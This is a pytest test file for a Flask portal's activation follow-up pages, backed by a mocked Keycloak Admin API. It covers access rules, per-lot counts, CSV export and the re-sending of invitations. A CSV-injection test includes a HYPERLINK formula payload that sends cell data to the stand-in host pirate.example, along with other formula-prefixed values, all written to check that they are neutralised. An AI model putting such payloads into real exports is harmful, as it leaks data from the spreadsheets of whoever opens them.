"""Suivi des activations: who may open it, the counts per lot, the filter, the CSV export and
the re-sending of invitations, against the Admin API as Keycloak answers it."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Callable, Mapping
from typing import Any

import pytest
import responses
from flask import url_for
from flask.testing import FlaskClient
from responses import matchers
from werkzeug.test import TestResponse

from portal.web.suivi import views as suivi_views
from tests.helpers.admin_api import AdminApi
from tests.helpers.admin_api_json import (
    CGU_VERSION,
    GROUPEMENT,
    SIREN_A,
    SIREN_B,
    group_json,
    user_json,
)
from tests.helpers.pages import get_page, html
from tests.helpers.personas import MEMBER, SUPPORT_USER, TECHNICIAN
from tests.helpers.settings import ADMIN_GROUPS_URL, ADMIN_REALM_URL, ADMIN_USERS_URL

Post = Callable[..., TestResponse]
SignIn = Callable[[Mapping[str, Any]], None]
BASE = f"/coordination/{GROUPEMENT}"
IMPORT = "imports.televerser"
NOW = int(time.time())
DAY = 24 * 3600
PASSWORD_SET = 1795881000000  # epoch ms: 2026-11-28
LAST_LOGIN = 1795967400000  # epoch ms: 2026-11-29 15:50 UTC

COORDINATOR = user_json(
    "c0000000-0000-4000-8000-00000000000c", "claire.martin@groupement.fr", "Claire", "Martin"
)
OTHER_COORDINATOR = user_json(
    "c0000000-0000-4000-8000-0000000000cc", "paul.nord@groupement-nord.fr", "Paul", "Nord"
)


def invited(sent: int, expires: int) -> dict[str, list[str]]:
    return {"invitationEnvoyeeLe": [str(sent)], "invitationExpireLe": [str(expires)]}


#: Activated on SIREN A lots 1 and 2 (principal of lot 1), CGU accepted.
ACTIVE = user_json(
    "p0000000-0000-4000-8000-000000000001",
    "alice.active@demoville.fr",
    "Alice",
    "Active",
    collecte=[f"{SIREN_A}/1", f"{SIREN_A}/2"],
    terms_and_conditions=["1795881002"],
    cguVersionAcceptee=[CGU_VERSION],
    **invited(NOW - 20 * DAY, NOW - 13 * DAY),
)
#: Invited yesterday on SIREN A lot 1, link still valid.
INVITED = user_json(
    "p0000000-0000-4000-8000-000000000002",
    "bruno.invite@demoville.fr",
    "Bruno",
    "Invité",
    collecte=[f"{SIREN_A}/1"],
    **invited(NOW - DAY, NOW + 6 * DAY),
)
#: Invited on SIREN B lot 1, link expired three days ago.
EXPIRED = user_json(
    "p0000000-0000-4000-8000-000000000003",
    "chloe.expiree@syndicat-demoville.fr",
    "Chloé",
    "Expirée",
    collecte=[f"{SIREN_B}/1"],
    **invited(NOW - 10 * DAY, NOW - 3 * DAY),
)
#: Never invited, SIREN B lot 1.
NEVER = user_json(
    "p0000000-0000-4000-8000-000000000004",
    "denis.jamais@syndicat-demoville.fr",
    "Denis",
    "Jamais",
    collecte=[f"{SIREN_B}/1"],
)
NOT_ACTIVATED = (INVITED, EXPIRED, NEVER)


def staff_groups(api: AdminApi, person_id: str, *codes: str) -> None:
    """GET users/<id>/groups: the coordinator's marker groups."""
    groups = [
        {"id": f"m-{code}", "name": code, "path": f"/coordonnateurs/{code}"} for code in codes
    ]
    # python-keycloak sends the boolean as Python writes it.
    query = {"briefRepresentation": "True", "first": "0", "max": "100"}
    api.kc.get(
        f"{ADMIN_USERS_URL}/{person_id}/groups",
        json=groups,
        match=[matchers.query_param_matcher(query)],
    )


@pytest.fixture
def coordinator(admin_api: AdminApi, sign_in_as: SignIn) -> AdminApi:
    admin_api.token()
    admin_api.roles(COORDINATOR["id"], "coordonnateur", "equipe-plateforme")
    staff_groups(admin_api, COORDINATOR["id"], GROUPEMENT)
    sign_in_as(COORDINATOR)
    return admin_api


def paged(api: AdminApi, url: str, items: list[dict[str, Any]], **params: str) -> None:
    query = {**params, "first": "0", "max": "100"}
    api.kc.get(url, json=items, match=[matchers.query_param_matcher(query)])


def dataset(api: AdminApi) -> None:
    """GRP-DEMO: adherent A (lots 1, 2; ACTIVE principal of lot 1) with ACTIVE, INVITED and a
    technical contact; adherent B (lots 1, 2) with EXPIRED and NEVER."""
    groupement = {"id": "g-groupement", "name": GROUPEMENT, "path": f"/{GROUPEMENT}"}
    api.kc.get(f"{ADMIN_REALM_URL}/group-by-path/{GROUPEMENT}", json=groupement)
    children = [group_json(SIREN_A, lot_1=ACTIVE["id"]), group_json(SIREN_B)]
    paged(api, f"{ADMIN_GROUPS_URL}/g-groupement/children", children, briefRepresentation="false")
    members = {SIREN_A: [ACTIVE, INVITED, TECHNICIAN], SIREN_B: [EXPIRED, NEVER]}
    for siren, people in members.items():
        url = f"{ADMIN_GROUPS_URL}/g-{siren}/members"
        paged(api, url, people, briefRepresentation="false")
    api.credentials(ACTIVE["id"], PASSWORD_SET)
    for person in NOT_ACTIVATED:
        api.credentials(person["id"])
    api.logins(ACTIVE["id"], LAST_LOGIN)
    api.realm()


ROUTES = [
    ("GET", f"{BASE}/"),
    ("GET", f"{BASE}/export.csv"),
    ("GET", f"{BASE}/relancer"),
    ("POST", f"{BASE}/relancer"),
]


def send(client: FlaskClient, post: Post, method: str, path: str) -> TestResponse:
    return client.get(path) if method == "GET" else post(path)


# --- who may open it ---------------------------------------------------------------------------


@pytest.mark.parametrize(("method", "path"), [("GET", "/coordination/"), *ROUTES])
def test_signed_out_visitors_are_sent_to_sign_in(
    client: FlaskClient, post: Post, method: str, path: str
) -> None:
    response = send(client, post, method, path)
    assert response.status_code == 302
    assert response.location.startswith("/connexion?next=/coordination/")


@pytest.mark.parametrize(("method", "path"), [("GET", "/coordination/"), *ROUTES])
def test_a_member_is_refused(
    client: FlaskClient, admin_api: AdminApi, sign_in_as: SignIn, post: Post, method: str, path: str
) -> None:
    admin_api.token()
    admin_api.roles(MEMBER["id"])
    sign_in_as(MEMBER)
    response = send(client, post, method, path)
    assert response.status_code == 403
    assert "réservée aux coordonnateurs du groupement" in response.get_data(as_text=True)
    assert admin_api.writes() == []


@pytest.mark.parametrize(("method", "path"), ROUTES)
def test_a_coordinator_of_another_groupement_is_refused_without_reading_it(
    client: FlaskClient, admin_api: AdminApi, sign_in_as: SignIn, post: Post, method: str, path: str
) -> None:
    admin_api.token()
    admin_api.roles(OTHER_COORDINATOR["id"], "coordonnateur", "equipe-plateforme")
    staff_groups(admin_api, OTHER_COORDINATOR["id"], "GRP-NORD")
    sign_in_as(OTHER_COORDINATOR)
    response = send(client, post, method, path)
    assert response.status_code == 403
    assert admin_api.writes() == []


def test_a_coordinator_lists_only_their_groupements(
    client: FlaskClient, coordinator: AdminApi
) -> None:
    page = get_page(client, "/coordination/")
    links = page.find_all("a", data_groupement=GROUPEMENT)
    assert [a.attrs["href"] for a in links] == [f"{BASE}/"]
    assert len([a for a in page.find_all("a") if "data-groupement" in a.attrs]) == 1


def test_support_lists_every_groupement(client: FlaskClient, support: AdminApi) -> None:
    groups = [{"id": "g-1", "name": GROUPEMENT}, {"id": "g-2", "name": "GRP-NORD"}]
    groups.append({"id": "g-3", "name": "coordonnateurs"})
    paged(support, ADMIN_GROUPS_URL, groups, briefRepresentation="true")
    page = get_page(client, "/coordination/")
    codes = [a.attrs["data-groupement"] for a in page.find_all("a") if "data-groupement" in a.attrs]
    assert codes == [GROUPEMENT, "GRP-NORD"]


@pytest.mark.parametrize("who", ["coordinator", "support"])
@pytest.mark.parametrize("path", [f"{BASE}/", f"{BASE}/export.csv", f"{BASE}/relancer"])
def test_the_groupements_coordinator_and_support_open_every_page(
    client: FlaskClient, request: pytest.FixtureRequest, who: str, path: str
) -> None:
    api: AdminApi = request.getfixturevalue(who)
    dataset(api)
    response = client.get(path)
    assert response.status_code == 200
    assert api.writes() == []


def test_an_unknown_groupement_is_not_found(client: FlaskClient, support: AdminApi) -> None:
    support.kc.get(f"{ADMIN_REALM_URL}/group-by-path/GRP-INCONNU", status=404, json={})
    assert client.get("/coordination/GRP-INCONNU/").status_code == 404


def test_home_links_to_the_follow_up_once_a_staff_page_was_authorized(
    client: FlaskClient, coordinator: AdminApi, realm_changed: Callable[[], None]
) -> None:
    assert not html(client.get("/")).find_all(id="lien-coordination")
    client.get("/coordination/")
    link = html(client.get("/")).by_id("lien-coordination")
    assert (link.attrs["href"], link.text()) == ("/coordination/", "Suivi des activations")

    coordinator.roles(COORDINATOR["id"])  # the role was withdrawn
    realm_changed()
    assert client.get("/coordination/").status_code == 403
    assert not html(client.get("/")).find_all(id="lien-coordination")


# --- the follow-up page ------------------------------------------------------------------------


def counters(page: Any, lot: str) -> dict[str, str]:
    section = page.find("section", data_lot=lot)
    return {dd.attrs["data-compteur"]: dd.text() for dd in section.find_all("dd")}


def test_counts_states_and_progress_per_lot(client: FlaskClient, coordinator: AdminApi) -> None:
    dataset(coordinator)
    page = get_page(client, f"{BASE}/")

    assert counters(page, "1") == {
        "contacts": "4",
        "invites": "1",
        "expires": "1",
        "non-invites": "1",
        "actives": "1",
        "cgu": "1",
    }
    assert counters(page, "2") == {
        "contacts": "1",
        "invites": "0",
        "expires": "0",
        "non-invites": "0",
        "actives": "1",
        "cgu": "1",
    }
    lot1 = page.find("section", data_lot="1")
    bar = lot1.find("progress")
    assert (bar.attrs["value"], bar.attrs["max"]) == ("1", "4")
    assert lot1.find("label").attrs["for"] == bar.attrs["id"]
    assert "1 sur 4 (25 %)" in lot1.text()
    assert page.find("section", data_lot="2").find("progress").attrs["value"] == "1"
    assert (
        "SIREN 253500011"
        in page.find("section", data_lot="2").find(class_="sans-interlocuteur").text()
    )

    states = {
        row.attrs["data-personne"]: row.find("td", class_="etat").text()
        for row in lot1.find_all("tr")
        if "data-personne" in row.attrs
    }
    assert states == {
        ACTIVE["id"]: "Activé",
        INVITED["id"]: "Invité",
        EXPIRED["id"]: "Invitation expirée",
        NEVER["id"]: "Non invité",
    }
    active = lot1.find("tr", data_personne=ACTIVE["id"])
    assert active.find("td", class_="cgu").text() == (
        f"acceptées le 28/11/2026 à 16:50 (heure de Paris) (version {CGU_VERSION})"
    )
    assert active.find("td", class_="connexion").text() == "29/11/2026 à 16:50 (heure de Paris)"
    assert "principal" in active.text()
    never = lot1.find("tr", data_personne=NEVER["id"])
    assert never.find("td", class_="cgu").text() == "non acceptées"
    assert never.find("td", class_="connexion").text() == "Jamais"
    # A technical contact is no collection contact: no row, no credential read.
    assert not page.find_all("tr", data_personne=TECHNICIAN["id"])
    assert page.by_id("export-csv").attrs["href"] == f"{BASE}/export.csv"


def test_one_credentials_read_per_person_and_a_sign_in_read_only_once_activated(
    client: FlaskClient, coordinator: AdminApi, kc: responses.RequestsMock
) -> None:
    dataset(coordinator)
    client.get(f"{BASE}/")
    urls = [call.request.url for call in kc.calls]
    assert sum(url.endswith(f"{ACTIVE['id']}/credentials") for url in urls) == 1  # two lots
    assert sum("/events?" in url for url in urls) == 1


def test_the_lots_are_laid_out_again_only_once_keycloak_tells_of_a_change(
    client: FlaskClient,
    coordinator: AdminApi,
    realm_changed: Callable[[], None],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    dataset(coordinator)
    laid_out: list[str] = []
    follow_up = suivi_views._follow_up
    monkeypatch.setattr(
        suivi_views, "_follow_up", lambda code: (laid_out.append(code), follow_up(code))[1]
    )

    def state() -> str:
        row = get_page(client, f"{BASE}/").find("tr", data_personne=INVITED["id"])
        return row.find("td", class_="etat").text()

    assert [state(), state()] == ["Invité", "Invité"]
    assert laid_out == [GROUPEMENT]  # the second page used the lots as laid out
    coordinator.credentials(INVITED["id"], PASSWORD_SET)  # Bruno chose his password...
    coordinator.logins(INVITED["id"], LAST_LOGIN)
    realm_changed()  # ...and Keycloak told the portal
    assert state() == "Activé"
    assert laid_out == [GROUPEMENT, GROUPEMENT]


def test_filter_on_not_activated(client: FlaskClient, coordinator: AdminApi) -> None:
    dataset(coordinator)
    page = get_page(client, f"{BASE}/?non_actives=1")
    rows = [
        row.attrs["data-personne"] for row in page.find_all("tr") if "data-personne" in row.attrs
    ]
    assert sorted(rows) == sorted(person["id"] for person in NOT_ACTIVATED)
    assert counters(page, "1")["contacts"] == "4"  # counts stay on everyone
    lot2 = page.find("section", data_lot="2")
    assert "ont activé leur espace Client" in lot2.find(class_="tout-active").text()
    assert page.by_id("export-csv").attrs["href"] == f"{BASE}/export.csv?non_actives=1"


def test_import_link_when_the_import_page_exists(
    client: FlaskClient, coordinator: AdminApi
) -> None:
    app = client.application
    if IMPORT not in app.view_functions:  # the import blueprint is built alongside
        app.add_url_rule("/import/<groupement>", endpoint=IMPORT, view_func=lambda groupement: "")
    with app.test_request_context():
        expected = url_for(IMPORT, groupement=GROUPEMENT)
    dataset(coordinator)
    page = get_page(client, f"{BASE}/")
    assert page.by_id("lien-import").attrs["href"] == expected


def test_no_import_link_without_the_import_page(client: FlaskClient, coordinator: AdminApi) -> None:
    client.application.view_functions.pop(IMPORT, None)
    dataset(coordinator)
    page = get_page(client, f"{BASE}/")
    assert not page.find_all(id="lien-import")


def test_csv_export(client: FlaskClient, coordinator: AdminApi) -> None:
    dataset(coordinator)
    response = client.get(f"{BASE}/export.csv")

    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="suivi-activations-{GROUPEMENT}.csv"'
    )
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:8] == [
        "Lot",
        "SIREN",
        "Raison sociale",
        "Nom",
        "Prénom",
        "E-mail",
        "Interlocuteur principal",
        "État",
    ]
    assert [(row[0], row[1], row[5], row[7]) for row in rows[1:]] == [
        ("1", SIREN_A, ACTIVE["email"], "Activé"),
        ("1", SIREN_A, INVITED["email"], "Invité"),
        ("1", SIREN_B, EXPIRED["email"], "Invitation expirée"),
        ("1", SIREN_B, NEVER["email"], "Non invité"),
        ("2", SIREN_A, ACTIVE["email"], "Activé"),
    ]
    assert dict(zip(rows[0], rows[1], strict=True)) == {
        "Lot": "1",
        "SIREN": SIREN_A,
        "Raison sociale": "Commune de Démoville",
        "Nom": "Active",
        "Prénom": "Alice",
        "E-mail": ACTIVE["email"],
        "Interlocuteur principal": "oui",
        "État": "Activé",
        "Invitation envoyée le": rows[1][8],
        "Invitation valable jusqu'au": rows[1][9],
        "Activé le": "28/11/2026 à 16:50 (heure de Paris)",
        "CGU acceptées le": "28/11/2026 à 16:50 (heure de Paris)",
        "Version des CGU acceptée": CGU_VERSION,
        "Dernière connexion": "29/11/2026 à 16:50 (heure de Paris)",
    }
    assert rows[1][8] and rows[1][9]


def test_csv_export_of_not_activated_only(client: FlaskClient, coordinator: AdminApi) -> None:
    dataset(coordinator)
    response = client.get(f"{BASE}/export.csv?non_actives=1")
    rows = list(
        csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
    )
    assert [row[5] for row in rows[1:]] == [INVITED["email"], EXPIRED["email"], NEVER["email"]]


HOSTILE_NAME = '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")'


def test_csv_export_neutralises_formulas(
    client: FlaskClient, coordinator: AdminApi, monkeypatch: pytest.MonkeyPatch
) -> None:
    """OWASP CSV injection: a cell a spreadsheet would read as a formula (=, +, -, @, tab,
    carriage return first) is prefixed with a single quote, in every column alike."""
    monkeypatch.setitem(group_json.__globals__["ADHERENT_NAMES"], SIREN_A, HOSTILE_NAME)
    module = globals()
    monkeypatch.setitem(module, "INVITED", {**INVITED, "email": "+cmd@demoville.fr"})
    monkeypatch.setitem(module, "EXPIRED", {**EXPIRED, "email": "-2+3@syndicat-demoville.fr"})
    monkeypatch.setitem(module, "NEVER", {**NEVER, "email": "@SUM(1+1)@syndicat-demoville.fr"})
    monkeypatch.setitem(
        module, "NOT_ACTIVATED", (module["INVITED"], module["EXPIRED"], module["NEVER"])
    )
    dataset(coordinator)
    body = client.get(f"{BASE}/export.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[1][2] == "'" + HOSTILE_NAME
    assert {row[5] for row in rows[1:]} == {
        ACTIVE["email"],
        "'+cmd@demoville.fr",
        "'-2+3@syndicat-demoville.fr",
        "'@SUM(1+1)@syndicat-demoville.fr",
    }
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33612345678", "'+33612345678"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Commune de Démoville", "Commune de Démoville"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_csv_cell(value: str, written: str) -> None:
    from portal.web.suivi.views import csv_cell

    assert csv_cell(value) == written


# --- re-sending invitations ---------------------------------------------------------------------


def test_confirmation_says_how_many_and_whom(client: FlaskClient, coordinator: AdminApi) -> None:
    dataset(coordinator)
    page = get_page(client, f"{BASE}/relancer")
    assert page.find("h1").text() == "Renvoyer l’invitation à 3 personnes non activées ?"
    listed = [li.attrs["data-personne"] for li in page.by_id("a-relancer").find_all("li")]
    assert listed == [INVITED["id"], EXPIRED["id"], NEVER["id"]]  # by e-mail
    form = page.find("form", action=f"{BASE}/relancer")
    assert form.attrs["method"] == "post"
    assert form.find_all("input", name="csrf_token")
    assert coordinator.writes() == []


def test_resend_invites_everyone_not_activated_and_goes_on_after_a_failure(
    client: FlaskClient, coordinator: AdminApi, post: Post
) -> None:
    dataset(coordinator)
    for person in NOT_ACTIVATED:
        coordinator.person(person)
        coordinator.accept_update(person["id"])
        coordinator.accept_invitation(person["id"], 500 if person is EXPIRED else 204)

    response = post(f"{BASE}/relancer")

    assert response.status_code == 302
    assert response.location == f"{BASE}/"
    sent = [
        url.removeprefix(f"PUT {ADMIN_USERS_URL}/").partition("/")[0]
        for url in coordinator.writes()
        if "/execute-actions-email?" in url
    ]
    assert sent == [INVITED["id"], EXPIRED["id"], NEVER["id"]]
    assert not any(ACTIVE["id"] in url for url in coordinator.writes())
    with client.session_transaction() as sess:
        messages = [message for _, message in sess["_flashes"]]
    assert messages == [
        "2 invitations renvoyées.",
        f"Invitations non envoyées (1) : {EXPIRED['email']}.",
    ]
    # Recorded: who re-sent, and the new invitation (the failed one was put back as it was).
    for person in (INVITED, NEVER):
        attributes = coordinator.people[person["id"]]["attributes"]
        assert COORDINATOR["email"] in attributes["derniereModification"][0]
        assert int(attributes["invitationEnvoyeeLe"][0]) >= NOW
    assert coordinator.people[EXPIRED["id"]]["attributes"]["invitationEnvoyeeLe"] == [
        str(NOW - 10 * DAY)
    ]


def test_resend_needs_the_csrf_token(client: FlaskClient, sign_in_as: SignIn) -> None:
    sign_in_as(COORDINATOR)  # refused before any Keycloak call
    response = client.post(f"{BASE}/relancer")
    assert response.status_code == 400


def test_resend_is_post_only(client: FlaskClient, sign_in_as: SignIn) -> None:
    sign_in_as(COORDINATOR)
    response = client.put(f"{BASE}/relancer")
    assert response.status_code == 405


def test_support_resends_as_itself(client: FlaskClient, support: AdminApi, post: Post) -> None:
    dataset(support)
    for person in NOT_ACTIVATED:
        support.person(person)
        support.accept_update(person["id"])
        support.accept_invitation(person["id"])
    post(f"{BASE}/relancer")
    attributes = support.people[NEVER["id"]]["attributes"]
    assert SUPPORT_USER["email"] in attributes["derniereModification"][0]


def test_cgu_of_an_earlier_version_are_shown_and_not_counted() -> None:
    from portal.core.domain import Person
    from portal.web.suivi.views import terms_text

    person = Person.from_representation(
        user_json(
            "x",
            "x@exemple.fr",
            "X",
            "Y",
            terms_and_conditions=["1795881002"],
            cguVersionAcceptee=["2025-01"],
        )
    )
    assert terms_text(person, CGU_VERSION) == (
        "acceptées le 28/11/2026 à 16:50 (heure de Paris) (version 2025-01) ; "
        f"pas la version en vigueur ({CGU_VERSION})"
    )
    assert terms_text(person, None).endswith("(version 2025-01)")


def test_counts_only_the_cgu_version_in_force() -> None:
    from portal.core.domain import Adherent, Person
    from portal.core.services.follow_up import Account, FollowUp, Line, State

    adherent = Adherent("g", SIREN_A, "Commune", GROUPEMENT, ("1",))

    def line(version: str | None) -> Line:
        attributes = {"terms_and_conditions": ["1795881002"]}
        if version:
            attributes["cguVersionAcceptee"] = [version]
        person = Person.from_representation(
            user_json(f"id-{version}", "a@b.fr", "A", "B", **attributes)
        )
        return Line(adherent, "1", Account(person, None, None), State.NOT_INVITED)

    lines = (line(CGU_VERSION), line("2025-01"), line(None))
    assert FollowUp(GROUPEMENT, (adherent,), lines, CGU_VERSION).summary("1").terms_accepted == 1
    assert FollowUp(GROUPEMENT, (adherent,), lines, None).summary("1").terms_accepted == 3
